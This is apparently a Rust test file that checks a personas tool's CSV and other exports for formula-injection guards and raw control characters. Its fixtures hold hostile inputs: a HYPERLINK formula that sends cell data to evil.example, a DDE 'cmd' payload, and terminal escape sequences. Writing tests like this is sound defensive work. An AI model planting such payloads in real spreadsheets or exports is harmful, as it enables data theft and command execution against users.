//! CSV formula injection and raw control characters in exports (SPEC §10, issue 20 defect 3).
//!
//! - A csv cell that would start with `=`, `+`, `-`, `@`, a tab, a carriage return or `'` is
//!   written with one more `'` in front, so no spreadsheet runs it; `personas import` takes that
//!   `'` off again (and only that one), so export → import changes nothing.
//! - No export file holds a raw control character other than tab, line feed and carriage return;
//!   the others are written as visible placeholders (json: as `\uXXXX` escapes).

use std::path::Path;

use assert_cmd::Command;
use personas::export::{ExportFormat, render, render_chain};
use personas::import::{Mapping, import_bytes};
use personas::model::{BuyingRole, Goal, Kind, Persona, Workspace, validate};
use personas::store::to_ron;

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

/// What a spreadsheet runs as a formula when a cell starts with it (OWASP).
const RISKY: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

const ALL_FORMATS: [ExportFormat; 8] = [
    ExportFormat::Markdown,
    ExportFormat::Html,
    ExportFormat::Svg,
    ExportFormat::Story,
    ExportFormat::Mermaid,
    ExportFormat::Dot,
    ExportFormat::Json,
    ExportFormat::Csv,
];

fn goal(id: &str, text: &str, why: &str, metric: &str, supports: &[&str]) -> Goal {
    Goal {
        id: id.into(),
        text: text.into(),
        why: why.into(),
        metric: metric.into(),
        supports: supports.iter().map(|s| (*s).to_string()).collect(),
        ..Goal::default()
    }
}

fn persona(id: &str, name: &str, goals: Vec<Goal>) -> Persona {
    Persona {
        id: id.into(),
        name: name.into(),
        goals,
        ..Persona::default()
    }
}

/// A valid workspace whose cells start with every risky character, with `'` (alone, before a
/// risky character, doubled), and with a `'` or a risky character that is not at the start; the
/// title is a formula too. `extra` is appended to the title, every name and every goal text.
fn formulas(extra: &str) -> Workspace {
    let mut user = persona(
        "-user",
        &format!("{HYPERLINK}{extra}"),
        vec![
            goal(
                "@ug",
                &format!("+1+1{extra}"),
                "-2",
                "@SUM(A1:A9)",
                &["=dg"],
            ),
            goal(
                "ug2",
                &format!("\tcmd|' /C calc'!A0{extra}"),
                "'quoted",
                "''twice",
                &["=dg"],
            ),
            goal("ug3", &format!("\r=1{extra}"), "'=not run", "'", &[]),
        ],
    );
    user.kind = Some(Kind::GoalDirected);
    user.role = "a=b, 'c' +d".into();
    user.pains = vec!["=SUM(1)".into(), "-minus".into()];
    user.summary = "+first line\n=second line".into();
    user.quote = "@here".into();
    user.notes = "'".into();
    let mut dept = persona(
        "=dept",
        &format!("'Sales{extra}"),
        vec![goal("=dg", &format!("=1+2{extra}"), "", "", &["+bg"])],
    );
    dept.kind = Some(Kind::RoleBased);
    let mut buyer = persona(
        "'buyer",
        &format!("@Buyer{extra}"),
        vec![goal("+bg", &format!("-Grow{extra}"), "", "", &[])],
    );
    buyer.buying_role = Some(BuyingRole::DecisionMaker);
    buyer.objections = vec!["=cost".into(), "'too'".into()];
    buyer.criteria = vec!["+speed".into()];
    let quiet = persona("@quiet", "=No goals", Vec::new());
    Workspace::new(
        format!("=1+1 workshop{extra}"),
        [vec![user], vec![dept], vec![buyer, quiet]],
    )
}

/// Whether a character must not reach an export file raw.
fn is_raw_control(c: char) -> bool {
    c.is_control() && !matches!(c, '\t' | '\n' | '\r')
}

/// Every cell of a csv file, as a spreadsheet reads it (the header row included).
fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes)
        .records()
        .map(|r| r.expect("a csv record").iter().map(String::from).collect())
        .collect()
}

fn imported(table: &[u8]) -> Workspace {
    match import_bytes(table, Workspace::default(), &Mapping::default()) {
        Ok(outcome) => outcome.workspace,
        Err(errors) => panic!("import failed: {errors:?}"),
    }
}

#[test]
fn the_csv_of_a_hostile_workspace_has_no_formula_and_no_control_byte() {
    let ws = formulas("\u{1b}]0;PWN\u{7}\u{7f}\u{9b}");
    assert!(validate(&ws).is_empty());
    let table = render(&ws, ExportFormat::Csv);
    let bytes = table.as_bytes();
    // As bytes: nothing below 0x20 but tab, LF and CR, no DEL, no C1 (UTF-8 C2 80..9F).
    for (at, b) in bytes.iter().enumerate() {
        assert!(
            *b >= 0x20 && *b != 0x7f || matches!(b, b'\t' | b'\n' | b'\r'),
            "raw byte 0x{b:02x} at {at}"
        );
        assert!(
            !(*b == 0xc2 && (0x80..=0x9f).contains(&bytes.get(at + 1).copied().unwrap_or(0))),
            "raw C1 control at {at}"
        );
    }
    assert!(!table.chars().any(is_raw_control));
    let rows = cells(bytes);
    assert_eq!(
        rows.len(),
        1 + 6,
        "a header, a row per goal and per persona without goals"
    );
    for (n, row) in rows.iter().enumerate() {
        for (i, cell) in row.iter().enumerate() {
            assert!(
                !cell.starts_with(RISKY),
                "row {} cell {} would run as a formula: {cell:?}",
                n + 1,
                i + 1
            );
            if let Some(rest) = cell.strip_prefix('\'') {
                assert!(
                    rest.starts_with(RISKY) || rest.starts_with('\''),
                    "row {} cell {}: a ' the export did not need: {cell:?}",
                    n + 1,
                    i + 1
                );
            }
        }
    }
    let header = &rows[0];
    let at = |name: &str| header.iter().position(|h| h == name).expect(name);
    let shown = "␛]0;PWN␇␡\u{fffd}";
    // The title, a formula, is guarded on every row.
    let title = format!("'=1+1 workshop{shown}");
    assert!(
        rows[1..].iter().all(|r| r[at("workspace")] == title),
        "{table}"
    );
    let names: Vec<&str> = rows[1..].iter().map(|r| r[at("name")].as_str()).collect();
    let hyperlink = format!("'{HYPERLINK}{shown}");
    assert_eq!(
        names,
        [
            hyperlink.clone(),
            hyperlink.clone(),
            hyperlink,
            format!("''Sales{shown}"),
            format!("'@Buyer{shown}"),
            "'=No goals".to_string(),
        ]
    );
    let texts: Vec<&str> = rows[1..6].iter().map(|r| r[at("text")].as_str()).collect();
    assert_eq!(
        texts,
        [
            format!("'+1+1{shown}"),
            format!("'\tcmd|' /C calc'!A0{shown}"),
            format!("'\r=1{shown}"),
            format!("'=1+2{shown}"),
            format!("'-Grow{shown}"),
        ]
    );
    let first = &rows[1];
    assert_eq!(first[at("persona_id")], "'-user");
    assert_eq!(first[at("goal_id")], "'@ug");
    assert_eq!(first[at("why")], "'-2");
    assert_eq!(first[at("metric")], "'@SUM(A1:A9)");
    assert_eq!(first[at("supports")], "'=dg");
    assert_eq!(first[at("pains")], "'=SUM(1)\n-minus");
    assert_eq!(first[at("summary")], "'+first line\n=second line");
    assert_eq!(
        first[at("role")],
        "a=b, 'c' +d",
        "only a cell's start is guarded"
    );
    assert_eq!(first[at("notes")], "''");
    assert_eq!(rows[2][at("why")], "''quoted");
    assert_eq!(rows[2][at("metric")], "'''twice");
    assert_eq!(rows[3][at("why")], "''=not run");
    assert_eq!(rows[5][at("persona_id")], "''buyer");
    assert_eq!(rows[5][at("objections")], "'=cost\n'too'");
    // Read back, the control characters stay placeholders and everything else is as it was.
    let back = imported(bytes);
    assert_eq!(back.title, format!("=1+1 workshop{shown}"));
    let user = &back.columns[0][0];
    assert_eq!(user.name, format!("{HYPERLINK}{shown}"));
    assert_eq!(user.id, "-user");
    assert_eq!(user.goals[1].text, format!("\tcmd|' /C calc'!A0{shown}"));
    assert_eq!(user.goals[2].why, "'=not run");
}

#[test]
fn a_workspace_without_control_characters_comes_back_unchanged() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let ws = formulas("");
    assert!(validate(&ws).is_empty());
    std::fs::write(d.join("evil.ron"), to_ron(&ws)).expect("write");
    let run = |args: &[&str]| -> Vec<u8> {
        let out = personas(d).args(args).output().expect("runs");
        assert!(
            out.status.success(),
            "personas {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        out.stdout
    };
    run(&["export", "evil.ron", "--format", "csv", "-o", "evil.csv"]);
    let table = std::fs::read(d.join("evil.csv")).expect("the csv");
    assert!(
        String::from_utf8_lossy(&table).contains("'=HYPERLINK("),
        "the formula is guarded"
    );
    run(&["import", "evil.csv", "-o", "back.ron"]);
    let json = |file: &str| run(&["export", file, "--format", "json"]);
    let (before, after) = (json("evil.ron"), json("back.ron"));
    assert!(
        before == after,
        "the round trip changed the workspace:\n{}\n---\n{}",
        String::from_utf8_lossy(&before),
        String::from_utf8_lossy(&after)
    );
    assert_eq!(imported(&table), ws);
}

#[test]
fn import_takes_off_one_quote_before_a_formula_start_and_nowhere_else() {
    let table = "column,persona,goal,why\n\
                 users,'plain,'=SUM(1),''=x\n\
                 users,'''',''',\" '=spaced\"\n\
                 users,',x'=y,\"'\tx\"\n";
    let ws = imported(table.as_bytes());
    let got: Vec<(&str, &str, &str)> = ws
        .personas()
        .flat_map(|(_, p)| {
            p.goals
                .iter()
                .map(move |g| (p.name.as_str(), g.text.as_str(), g.why.as_str()))
        })
        .collect();
    assert_eq!(
        got,
        [
            ("'plain", "=SUM(1)", "'=x"),
            ("'''", "''", " '=spaced"),
            ("'", "x'=y", "\tx"),
        ]
    );
}

#[test]
fn no_export_format_writes_a_raw_control_character() {
    let payload = "\u{1b}]0;PWN\u{7}\u{1b}[2J\u{0}\u{8}\u{7f}\u{9b}2J";
    let mut ws = formulas(payload);
    // Ids too (they are text from the file like any other), and every other field.
    for column in &mut ws.columns {
        for p in column {
            let p = std::sync::Arc::make_mut(p);
            p.id.push_str(payload);
            for text in [&mut p.role, &mut p.summary, &mut p.quote, &mut p.notes] {
                text.push_str(payload);
            }
            for list in [&mut p.pains, &mut p.objections, &mut p.criteria] {
                list.push(format!("item{payload}"));
            }
            for g in &mut p.goals {
                g.id.push_str(payload);
                g.why.push_str(payload);
                g.metric.push_str(payload);
                for s in &mut g.supports {
                    s.push_str(payload);
                }
            }
        }
    }
    assert!(validate(&ws).is_empty(), "{:?}", validate(&ws));
    let chain_goal = format!("=dg{payload}");
    for format in ALL_FORMATS {
        for (what, out) in [
            ("whole", render(&ws, format)),
            (
                "--chain",
                render_chain(&ws, format, &chain_goal).expect("the department goal"),
            ),
        ] {
            let raw: Vec<String> = out
                .chars()
                .filter(|c| is_raw_control(*c))
                .map(|c| c.escape_unicode().to_string())
                .collect();
            assert!(raw.is_empty(), "{format:?} {what}: raw {raw:?} in\n{out}");
            if format != ExportFormat::Json {
                assert!(
                    out.contains("␛]0;PWN␇"),
                    "{format:?} {what}: no placeholder"
                );
            }
        }
    }
    // json keeps them as escapes, which read back as the very same text.
    let json = render(&ws, ExportFormat::Json);
    assert!(json.contains(r"\u001b]0;PWN\u0007"), "{json}");
}

fn personas(dir: &Path) -> Command {
    let mut cmd = Command::cargo_bin("personas").expect("binary");
    cmd.current_dir(dir)
        .env("HOME", dir)
        .env("XDG_CONFIG_HOME", dir.join("config"))
        .env("XDG_DATA_HOME", dir.join("data"));
    cmd
}
